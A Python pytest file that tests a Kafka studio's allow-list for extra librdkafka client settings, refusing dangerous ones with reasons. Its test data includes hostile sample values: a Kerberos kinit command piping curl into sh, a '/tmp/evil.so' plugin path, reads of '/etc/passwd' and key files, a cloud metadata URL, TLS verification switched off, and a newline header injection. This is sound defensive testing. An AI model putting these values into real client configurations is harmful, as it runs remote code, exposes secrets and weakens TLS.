"""The allow-list of extra librdkafka settings a connection may carry (issue 8): the
settings that run code, read files, call URLs, leak secrets into logs or turn TLS checks
off are refused, each with its reason; the accepted ones reach real clients."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from confluent_kafka import Consumer, Producer
from confluent_kafka.admin import AdminClient
from django.contrib.auth.models import User
from django.test import Client

from runtime.kafka.config import admin_config, main_consumer_config, producer_config
from studio.connections.models import Connection, RefusedClientSettingsError
from studio.lib import client_settings
from studio.lib.client_settings import ALLOWED, check, for_streams
from studio.workspaces.models import Workspace
from tests.studio.connections.helpers import send

# -- pure: the policy ---------------------------------------------------------------------

# The list, each with a value a user might send and a word of the reason.
DANGEROUS = [
    ("plugin.library.paths", "/tmp/evil.so", "native code"),
    ("ssl.engine.location", "/tmp/engine.so", "native code"),
    ("ssl.engine.id", "dynamic", "native code"),
    ("ssl.providers", "legacy,default", "native code"),
    ("sasl.kerberos.kinit.cmd", "curl http://x | sh", "shell command"),
    ("sasl.kerberos.keytab", "/etc/krb5.keytab", "file"),
    ("ssl.key.location", "/etc/ssl/private/key.pem", "file"),
    ("ssl.ca.location", "/etc/passwd", "file"),
    ("ssl.certificate.location", "/etc/passwd", "file"),
    ("ssl.crl.location", "/etc/passwd", "file"),
    ("ssl.keystore.location", "/etc/passwd", "file"),
    ("sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/latest/meta-data/", "URL"),
    ("debug", "all", "logs"),
    ("test.mock.num.brokers", "3", "test setting"),
    ("test.mock.broker.rtt", "1", "test setting"),
    ("enable.ssl.certificate.verification", "false", "verification off"),
    ("enable.ssl.certificate.verification", False, "verification off"),
    ("ssl.endpoint.identification.algorithm", "none", "verification off"),
    ("ssl.key.password", "hunter2", "secret"),
    ("sasl.oauthbearer.client.secret", "hunter2", "secret"),
]


@pytest.mark.parametrize("key, value, reason", DANGEROUS)
def test_dangerous_settings_are_refused_with_their_reason(key: str, value: Any, reason: str) -> None:
    accepted, problems = check({key: value, "linger.ms": 5})
    assert accepted == {"linger.ms": "5"}   # the rest of the request is still judged
    assert set(problems) == {key}
    assert key in problems[key] and reason in problems[key], problems[key]


@pytest.mark.parametrize("key, field", [
    ("bootstrap.servers", "bootstrap_servers"), ("security.protocol", "security_protocol"),
    ("sasl.password", "password"), ("sasl.username", "username"), ("ssl.key.pem", "ssl_key_pem"),
])
def test_settings_of_the_connections_fields_point_at_the_field(key: str, field: str) -> None:
    _, problems = check({key: "x"})
    assert problems == {key: f"{key} is set by the connection's {field} field."}


@pytest.mark.parametrize("key", ["group.id", "isolation.level", "enable.auto.commit", "transactional.id",
                                 "enable.idempotence", "acks", "partition.assignment.strategy"])
def test_settings_the_engine_relies_on_are_refused(key: str) -> None:
    _, problems = check({key: "1"})
    assert "set by the engine" in problems[key]


@pytest.mark.parametrize("key", ["no.such.setting", "DEBUG", "Linger.ms", "linger.ms ", "ssl_engine_location"])
def test_anything_not_on_the_allow_list_is_refused(key: str) -> None:
    accepted, problems = check({key: "1"})
    assert accepted == {} and key in problems


def test_values_are_checked_and_given_to_librdkafka_as_strings() -> None:
    accepted, problems = check({
        "linger.ms": 20, "batch.size": "65536", "socket.keepalive.enable": True,
        "compression.type": "zstd", "client.id": "billing-etl", "enable.ssl.certificate.verification": True,
        "ssl.endpoint.identification.algorithm": "https",
    })
    assert problems == {}
    assert accepted == {
        "linger.ms": "20", "batch.size": "65536", "socket.keepalive.enable": "true", "compression.type": "zstd",
        "client.id": "billing-etl", "enable.ssl.certificate.verification": "true",
        "ssl.endpoint.identification.algorithm": "https",
    }


@pytest.mark.parametrize("key, value", [
    ("linger.ms", -1), ("linger.ms", 10**12), ("linger.ms", True), ("linger.ms", 1.5), ("linger.ms", "20ms"),
    ("max.in.flight.requests.per.connection", 6),   # > 5 breaks the idempotent producer's ordering
    ("compression.type", "brotli"), ("socket.keepalive.enable", "yes"),
    ("client.id", "a b"), ("client.id", "x\nInjected: header"), ("client.id", ""), ("client.id", 7),
])
def test_bad_values_of_allowed_settings_are_refused(key: str, value: Any) -> None:
    accepted, problems = check({key: value})
    assert accepted == {} and problems[key].startswith(f"{key} must be")


@pytest.mark.parametrize("settings", [[["debug", "all"]], "debug=all", None, 3])
def test_not_an_object_is_one_problem(settings: Any) -> None:
    assert check(settings) == ({}, {"": "Client settings must be an object of setting names and values."})


def test_the_number_of_settings_is_bounded() -> None:
    _, problems = check({f"k{i}": "1" for i in range(client_settings.MAX_SETTINGS + 1)})
    assert list(problems) == [""]


def test_for_streams_prefixes_what_one_kind_of_client_reads() -> None:
    streams = for_streams({"client.id": "etl", "linger.ms": "20", "session.timeout.ms": "10000",
                           "socket.keepalive.enable": "true"})
    assert streams == {
        "client.id": "etl",
        "producer.linger.ms": "20",
        "consumer.session.timeout.ms": "10000",
        "consumer.socket.keepalive.enable": "true",
        "producer.socket.keepalive.enable": "true",
        "admin.socket.keepalive.enable": "true",
    }
    # ...and the engine's own client settings then carry them (its defaults overridden).
    config = {"application.id": "app", **streams}
    assert producer_config(config, client_id="p")["linger.ms"] == "20"
    consumer = main_consumer_config(config, client_id="c", assignment_strategy="cooperative-sticky")
    assert consumer["session.timeout.ms"] == "10000" and "linger.ms" not in consumer
    assert admin_config(config, client_id="a")["socket.keepalive.enable"] == "true"


# A valid value of every allowed setting: the test below hands each to librdkafka, so a
# misspelt name on the allow-list (which librdkafka would refuse) cannot go unnoticed.
SAMPLES: dict[str, Any] = {
    "client.id": "etl", "client.rack": "eu-west-1a", "client.dns.lookup": "use_all_dns_ips",
    "broker.address.family": "v4", "socket.timeout.ms": 30000, "socket.connection.setup.timeout.ms": 10000,
    "socket.keepalive.enable": True, "socket.nagle.disable": True, "socket.send.buffer.bytes": 0,
    "socket.receive.buffer.bytes": 0, "connections.max.idle.ms": 0, "reconnect.backoff.ms": 100,
    "reconnect.backoff.max.ms": 10000, "retry.backoff.ms": 100, "retry.backoff.max.ms": 1000,
    "request.timeout.ms": 30000, "metadata.max.age.ms": 900000, "topic.metadata.refresh.interval.ms": 300000,
    "api.version.request.timeout.ms": 10000, "message.max.bytes": 1000000, "receive.message.max.bytes": 100000000,
    "session.timeout.ms": 45000, "heartbeat.interval.ms": 3000, "max.poll.interval.ms": 300000,
    "fetch.min.bytes": 1, "fetch.max.bytes": 52428800, "fetch.wait.max.ms": 500,
    "max.partition.fetch.bytes": 1048576, "queued.min.messages": 100000, "queued.max.messages.kbytes": 65536,
    "linger.ms": 5, "batch.size": 1000000, "batch.num.messages": 10000, "compression.type": "lz4",
    "queue.buffering.max.messages": 100000, "queue.buffering.max.kbytes": 1048576, "delivery.timeout.ms": 300000,
    "message.timeout.ms": 300000, "max.in.flight.requests.per.connection": 5,
    "ssl.cipher.suites": "ECDHE-RSA-AES256-GCM-SHA384", "ssl.curves.list": "P-256:X25519",
    "ssl.sigalgs.list": "RSA-PSS+SHA256", "enable.ssl.certificate.verification": True,
    "ssl.endpoint.identification.algorithm": "https",
}


def test_librdkafka_takes_every_allowed_setting() -> None:
    assert set(SAMPLES) == set(ALLOWED), "give each allowed setting a sample value"
    accepted, problems = check(SAMPLES)
    assert problems == {}
    streams = {"application.id": "app", **for_streams(accepted)}
    # Creating a client checks every name and value locally (no broker is contacted).
    Producer(producer_config(streams, client_id="p") | {"bootstrap.servers": "127.0.0.1:1"})
    Consumer(main_consumer_config(streams, client_id="c", assignment_strategy="cooperative-sticky")
             | {"bootstrap.servers": "127.0.0.1:1"}).close()
    AdminClient(admin_config(streams, client_id="a") | {"bootstrap.servers": "127.0.0.1:1"})


# -- the API and the stored connection ----------------------------------------------------


def test_the_api_refuses_each_bad_setting_by_name(api: Client, team: Workspace) -> None:
    response = send(api, "post", "/api/connections/", {
        "workspace": team.pk, "name": "tuned", "bootstrap_servers": "kafka:9092",
        "client_settings": {"linger.ms": 20, "debug": "all", "ssl.key.location": "/etc/key.pem"},
    })
    assert response.status_code == 400, response.content
    problems = {p["path"]: p["message"] for p in response.json()["problems"]}
    assert set(problems) == {"client_settings.debug", "client_settings.ssl.key.location"}
    assert "logs" in problems["client_settings.debug"]
    assert not Connection.objects.filter(name="tuned").exists()


def test_accepted_settings_are_stored_returned_and_given_to_clients(api: Client, team: Workspace) -> None:
    response = send(api, "post", "/api/connections/", {
        "workspace": team.pk, "name": "tuned", "bootstrap_servers": "kafka:9092",
        "client_settings": {"linger.ms": 20, "client.id": "etl"},
    })
    assert response.status_code == 201, response.content
    assert response.json()["client_settings"] == {"linger.ms": "20", "client.id": "etl"}
    connection = Connection.objects.get(pk=response.json()["id"])
    assert connection.client_config() == {"linger.ms": "20", "client.id": "etl",
                                          "bootstrap.servers": "kafka:9092", "security.protocol": "PLAINTEXT"}
    assert connection.streams_client_config()["producer.linger.ms"] == "20"
    # An update replaces them.
    response = send(api, "patch", f"/api/connections/{connection.pk}/", {"client_settings": {}})
    assert response.status_code == 200, response.content
    connection.refresh_from_db()
    assert connection.client_settings == {}


def test_a_stored_refused_setting_stops_every_client_with_a_clear_error(
    api: Client, team: Workspace, alice: User,
) -> None:
    # Written around the API (the admin site, a database edit, a setting refused since).
    connection = Connection.objects.create(workspace=team, name="old", bootstrap_servers="127.0.0.1:1",
                                           client_settings={"debug": "all"}, created_by=alice)
    with pytest.raises(RefusedClientSettingsError, match="debug is not allowed"):
        connection.client_config()
    with pytest.raises(RefusedClientSettingsError, match="debug is not allowed"):
        connection.streams_client_config()   # what a worker's replica is built from
    response = api.get(f"/api/connections/{connection.pk}/topics/")
    assert response.status_code == 409
    assert response.json()["message"].startswith("Connection 'old' has client settings that are not allowed: debug")


@pytest.mark.kafka
def test_a_connection_with_extra_settings_talks_to_the_broker(
    api: Client, connection: Connection, create_topic: Callable[..., str],
) -> None:
    topic = create_topic("tuned")
    response = send(api, "patch", f"/api/connections/{connection.pk}/", {
        "client_settings": {"client.id": "riffle-tuned", "socket.keepalive.enable": True,
                            "fetch.wait.max.ms": 50, "linger.ms": 1},
    })
    assert response.status_code == 200, response.content
    names = [t["name"] for t in api.get(f"/api/connections/{connection.pk}/topics/?page_size=500").json()["results"]]
    assert topic in names
